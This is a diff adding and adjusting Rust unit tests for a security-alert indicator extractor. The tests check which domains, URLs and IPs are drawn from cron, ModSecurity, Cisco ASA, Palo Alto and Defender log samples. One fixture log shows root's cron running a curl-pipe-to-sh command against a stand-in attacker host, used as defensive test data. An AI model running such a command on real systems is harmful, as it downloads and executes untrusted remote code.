@@ -99,7 +99,7 @@ fn what_a_command_connects_to_is_an_indicator_without_a_url_too() {
 #[test]
 fn what_cron_ran_and_a_firewall_matched_stand_in_their_lines_alone() {
     let cron = json!({"full_log": "Jan 20 09:02:17 lnx5 CRON[123]: (root) CMD (curl -s http://evil-org.com/i.sh | sh)",
-        "data": {"srcuser": "root"}});
+        "predecoder": {"program_name": "CRON"}, "data": {"srcuser": "root"}});
     expect(
         &cron,
         &[("domain", "evil-org.com"), ("url", "http://evil-org.com/i.sh")],
@@ -121,4 +121,91 @@ fn what_cron_ran_and_a_firewall_matched_stand_in_their_lines_alone() {
             ("url", "http://evil-org.com/x"),
         ],
     );
+}
+
+#[test]
+fn no_line_passes_for_one_of_cron_or_of_a_firewall() {
+    let ran = "CRON[1]: (root) CMD (curl http://innocent-org.com/x)";
+    let matched = r#"ModSecurity: [id "932100"] [data "Matched Data: http://innocent-org.com/x found within x"]"#;
+    for (line, program) in [
+        (format!("Jan 20 09:02:17 h app user {ran}"), None),
+        (format!("Jan 20 09:02:17 h app user {ran}"), Some("app")),
+        (
+            format!("Jan 20 09:02:17 h sshd[1]: Invalid user {matched} from 10.0.0.9 port 22"),
+            Some("sshd"),
+        ),
+        (format!("open {matched}"), None),
+    ] {
+        let mut value = json!({ "full_log": line });
+        if let Some(program) = program {
+            value["predecoder"] = json!({ "program_name": program });
+        }
+        expect(&value, &[]);
+        assert!(alert(&value).actors().process.is_none(), "{value}");
+    }
+}
+
+#[test]
+fn devices_of_cisco_are_read_only_where_the_decoder_found_them() {
+    let scan = "Jan 20 09:02:17 asa01 : %ASA-4-733101: Host 203.0.113.9 is attacking. Current burst rate is 200";
+    let of =
+        |decoder: &str, line: &str| json!({"decoder": {"name": decoder}, "full_log": line, "data": {"id": "4-733101"}});
+    expect(&of("cisco-asa", scan), &[("ip-src", "203.0.113.9")]);
+    expect(&of("su", scan), &[]);
+    let typed = "Rejected : user = x%ASA-4-733101: Host 8.8.4.4 is attacking : user IP = 203.0.113.9";
+    expect(
+        &of("cisco-asa", &format!("%ASA-6-113005: {typed}")),
+        &[("ip-src", "203.0.113.9")],
+    );
+}
+
+#[test]
+fn whoever_asks_a_server_of_the_organisation_chooses_no_indicator_by_its_name() {
+    // The higher port is no sign of who asked where the firewall says it.
+    let mut low = palo_alto("203.0.113.9", "10.1.1.20", "innocent-org.com/x");
+    low["data"]["source_port"] = json!("443");
+    low["data"]["destination_port"] = json!("8443");
+    expect(&low, &[("ip-src", "203.0.113.9")]);
+    for file in [
+        "login.php",
+        "setup.cgi",
+        "www.acme-org.com/x?u=http://innocent-org.com/a",
+    ] {
+        let into = palo_alto("203.0.113.9", "10.1.1.20", file);
+        expect(&into, &[("ip-src", "203.0.113.9")]);
+        assert!(alert(&into).actors().files.is_empty(), "{file}");
+    }
+    let mut nobody = palo_alto("10.1.4.9", "203.0.113.66", "shop.acme-org.com/x");
+    nobody["data"].as_object_mut().unwrap().remove("source_address");
+    expect(&nobody, &[("ip-dst", "203.0.113.66")]);
+    // Of a URL in a query only the host before it counts.
+    let out = palo_alto(
+        "10.1.4.9",
+        "203.0.113.66",
+        "evil-org.com/login?next=https://accounts.innocent-org.com/",
+    );
+    expect(&out, &[("ip-dst", "203.0.113.66"), ("domain", "evil-org.com")]);
+    let mut asked = palo_alto("10.1.4.9", "203.0.113.66", "vbr.evil-org.com");
+    asked["data"]["destination_port"] = json!("53");
+    expect(&asked, &[("ip-dst", "203.0.113.66"), ("domain", "vbr.evil-org.com")]);
+}
+
+#[test]
+fn defender_for_endpoint_tells_of_ones_own_servers_too() {
+    let fetched = |url: &str, ip: &str| {
+        json!({"agent": {"id": "000", "name": "wazuh"}, "data": {"properties":
+            {"DeviceName": "ws-9.acme-org.com", "RemoteUrl": url, "RemoteIP": ip}}})
+    };
+    let names = |value: &Value| -> Vec<_> {
+        let found = indicators_of(value).into_iter();
+        found
+            .filter(|(kind, _)| !kind.starts_with("ip"))
+            .map(|(_, name)| name)
+            .collect()
+    };
+    assert_eq!(names(&fetched("c2.evil-org.com", "203.0.113.66")), ["c2.evil-org.com"]);
+    let url = "https://c2.evil-org.com/x";
+    assert_eq!(names(&fetched(url, "203.0.113.66")), ["c2.evil-org.com", url]);
+    assert_eq!(names(&fetched("dc01.acme-org.com", "203.0.113.66")), [] as [&str; 0]);
+    assert_eq!(names(&fetched("other-org.com", "10.0.0.5")), [] as [&str; 0]);
 }
